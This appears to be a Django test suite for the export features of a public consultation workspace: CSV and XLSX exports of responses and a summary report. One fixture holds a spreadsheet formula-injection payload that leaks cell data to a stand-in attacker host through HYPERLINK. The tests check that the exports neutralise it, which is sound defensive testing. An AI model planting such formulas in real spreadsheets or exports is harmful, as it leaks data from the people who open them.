"""Exports of the responses (CSV and XLSX) and the printable report, through the workspace."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import datetime, timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from consult.models import (
    Answer,
    AuditEvent,
    Campaign,
    CampaignMember,
    Consultation,
    Flag,
    QuestionSummary,
    Response,
)
from tests.factories import make_consultation, make_official, make_response, make_run_with_themes

pytestmark = pytest.mark.django_db

LONG_TEXT = ("A very long answer about waiting times, " * 1200).strip()  # about 48,000 characters
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@dataclass
class World:
    consultation: Consultation
    organisation: Response
    individual: Response
    withdrawn: Response
    draft: Response
    official: object


@pytest.fixture
def world() -> World:
    consultation = make_consultation(phase="closed")
    q = {question.position: question for question in consultation.questions.all()}
    earlier = timezone.now() - timedelta(days=5)
    organisation = make_response(
        consultation,
        {
            q[1]: 4,
            q[2]: FORMULA,
            q[3]: ["Online"],
            q[4]: ["Privacy", "Wrong answers"],
            q[5]: LONG_TEXT,
        },
        respondent_type="organisation",
        organisation_name="@Campaign for Plain English",
        email="secret.person@example.com",
        submitted_at=earlier,
    )
    individual = make_response(
        consultation,
        {q[1]: 1, q[2]: "-5 stars: it will be quicker, but wrong.", q[3]: ["By phone"]},
        email="another.person@example.com",
    )
    withdrawn = make_response(consultation, {q[2]: "I changed my mind."}, status="withdrawn")
    withdrawn.withdrawn_at = timezone.now()
    withdrawn.save()
    draft = make_response(consultation, {q[2]: "Not sent yet"}, status="draft")

    why_organisation = organisation.answers.get(question=q[2])
    why_individual = individual.answers.get(question=q[2])
    run = make_run_with_themes(q[2], {"Quicker answers": [why_organisation, why_individual]})
    campaign = Campaign.objects.create(run=run, question=q[2], key=1, canonical_answer=why_individual, member_count=2)
    CampaignMember.objects.create(campaign=campaign, answer=why_individual)
    Flag.objects.create(
        answer=why_individual,
        reason=Flag.Reason.ABUSE,
        status=Flag.Status.HIDDEN,
        decision_reason="Insults a named adviser",
    )
    Flag.objects.create(answer=why_organisation, reason=Flag.Reason.PERSONAL_DATA)
    Answer.objects.filter(pk=why_individual.pk).update(visibility=Answer.Visibility.HIDDEN)
    QuestionSummary.objects.create(
        run=run,
        question=q[2],
        sentences=[{"text": "Most people expect quicker answers.", "references": [organisation.reference]}],
        source="extractive",
    )
    official = make_official(consultation.department, role="analyst")
    return World(consultation, organisation, individual, withdrawn, draft, official)


def _csv_rows(client: Client, consultation: Consultation) -> tuple[object, list[list[str]]]:
    response = client.get(reverse("workspace_export_csv", args=[consultation.slug]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return response, list(csv.reader(io.StringIO(text)))


def _by_reference(header: list[str], rows: list[list[str]]) -> dict[str, dict[str, str]]:
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def test_the_csv_export_has_every_sent_response_once_and_never_a_draft(client: Client, world: World) -> None:
    client.force_login(world.official)
    response, rows = _csv_rows(client, world.consultation)

    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith(f'attachment; filename="{world.consultation.slug}-responses-')
    references = [row[0] for row in rows[1:]]
    assert sorted(references) == sorted(
        [world.organisation.reference, world.individual.reference, world.withdrawn.reference]
    )
    assert world.draft.reference not in references
    # The oldest submission first.
    assert references[0] == world.organisation.reference


def test_the_csv_export_keeps_every_answer_in_full_with_dates_themes_campaigns_and_flags(
    client: Client, world: World
) -> None:
    client.force_login(world.official)
    _, rows = _csv_rows(client, world.consultation)
    header, by_reference = rows[0], _by_reference(rows[0], rows[1:])
    organisation = by_reference[world.organisation.reference]
    individual = by_reference[world.individual.reference]
    withdrawn = by_reference[world.withdrawn.reference]

    assert organisation["Q5: Is there anything else you want to tell us?"] == LONG_TEXT
    assert organisation["Q1: Do you agree that the assistant should answer benefit enquiries?"] == "Agree"
    assert organisation["Q3: How do you usually contact us?"] == "Online"
    assert organisation["Q4: What worries you about the assistant?"] == "Wrong answers; Privacy"
    assert organisation["respondent_type"] == "organisation"
    assert datetime.fromisoformat(organisation["submitted_at"]) == world.organisation.submitted_at.replace(
        microsecond=0
    )
    assert organisation["Q2 themes"] == "Quicker answers"
    assert organisation["Q2 flags"] == "Personal data found (waiting for a moderator)"
    assert organisation["Q2 visibility"] == "visible"
    assert individual["Q2 campaign"].startswith("campaign ")
    assert individual["Q2 flags"] == "Abusive language (hidden): Insults a named adviser"
    assert individual["Q2 visibility"] == "hidden"
    assert individual["Q4: What worries you about the assistant?"] == ""
    assert withdrawn["status"] == "withdrawn"
    assert withdrawn["withdrawn_at"]
    assert "Q2 themes" in header and "Q5 themes" in header


def test_the_csv_export_neutralises_formulas_and_leaves_out_email_addresses(client: Client, world: World) -> None:
    client.force_login(world.official)
    _response, rows = _csv_rows(client, world.consultation)
    by_reference = _by_reference(rows[0], rows[1:])

    assert by_reference[world.organisation.reference]["Q2: Why do you say that?"] == "'" + FORMULA
    assert by_reference[world.organisation.reference]["organisation"] == "'@Campaign for Plain English"
    assert by_reference[world.individual.reference]["Q2: Why do you say that?"].startswith("'-5 stars")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert not any("example.com" in cell for row in rows for cell in row)


def test_every_export_is_recorded_in_the_audit_trail(client: Client, world: World) -> None:
    client.force_login(world.official)
    _csv_rows(client, world.consultation)
    client.get(reverse("workspace_export_xlsx", args=[world.consultation.slug]))

    events = AuditEvent.objects.filter(consultation=world.consultation, action__startswith="export.")
    assert {(e.action, e.actor_id, e.after["responses"]) for e in events} == {
        ("export.csv", world.official.pk, 3),
        ("export.xlsx", world.official.pk, 3),
    }


def test_the_xlsx_export_keeps_long_text_whole_and_formulas_as_text(client: Client, world: World) -> None:
    from openpyxl import load_workbook

    client.force_login(world.official)
    response = client.get(reverse("workspace_export_xlsx", args=[world.consultation.slug]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert ".xlsx" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))

    sheet = workbook["Responses"]
    header = [cell.value for cell in sheet[1]]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert sorted(rows) == sorted([world.organisation.reference, world.individual.reference, world.withdrawn.reference])
    organisation = {name: cell for name, cell in zip(header, rows[world.organisation.reference], strict=True)}
    assert organisation["Q2: Why do you say that?"].value == FORMULA
    assert organisation["Q2: Why do you say that?"].data_type == "s"
    assert organisation["Q2: Why do you say that?"].quotePrefix
    assert organisation["Q2 themes"].value == "Quicker answers"
    assert datetime.fromisoformat(organisation["submitted_at"].value) == world.organisation.submitted_at.replace(
        microsecond=0
    )
    assert "Long answers" in organisation["Q5: Is there anything else you want to tell us?"].value

    long_rows = list(workbook["Long answers"].iter_rows(min_row=2, values_only=True))
    assert len(long_rows) == 1
    reference, column, *parts = long_rows[0]
    assert (reference, column) == (world.organisation.reference, "Q5: Is there anything else you want to tell us?")
    assert "".join(part for part in parts if part) == LONG_TEXT
    assert not any("example.com" in str(cell.value) for row in sheet.iter_rows() for cell in row)


def test_the_export_makes_the_same_number_of_queries_whatever_the_number_of_responses(
    client: Client, world: World
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(world.official)
    with CaptureQueriesContext(connection) as few:
        _csv_rows(client, world.consultation)
    question = world.consultation.questions.get(position=2)
    for n in range(30):
        make_response(world.consultation, {question: f"Another answer {n}"})
    with CaptureQueriesContext(connection) as many:
        _, rows = _csv_rows(client, world.consultation)
    assert len(rows) == 1 + 3 + 30
    assert len(many.captured_queries) == len(few.captured_queries)


def test_the_exports_page_says_what_each_export_holds(client: Client, world: World) -> None:
    client.force_login(world.official)
    page = client.get(reverse("workspace_exports", args=[world.consultation.slug])).content.decode()
    assert reverse("workspace_export_csv", args=[world.consultation.slug]) in page
    assert reverse("workspace_export_xlsx", args=[world.consultation.slug]) in page
    assert reverse("workspace_report", args=[world.consultation.slug]) in page
    assert "3 sent responses" in page
    assert "email addresses" in page
    assert "a sheet for each question" in page


def test_the_report_shows_counts_closed_results_themes_quotes_and_cited_summaries(client: Client, world: World) -> None:
    client.force_login(world.official)
    response = client.get(reverse("workspace_report", args=[world.consultation.slug]))
    assert response.status_code == 200
    page = response.content.decode()

    assert "Summary report" in page
    assert "Strongly disagree" in page and "By phone" in page  # closed questions as tables
    assert "Quicker answers" in page
    assert "-5 stars" not in page  # a hidden answer is never quoted
    assert "HYPERLINK" in page  # the visible member is quoted (escaped by the template)
    assert "Most people expect quicker answers." in page
    assert world.organisation.reference in page
    assert "How the responses were analysed" in page
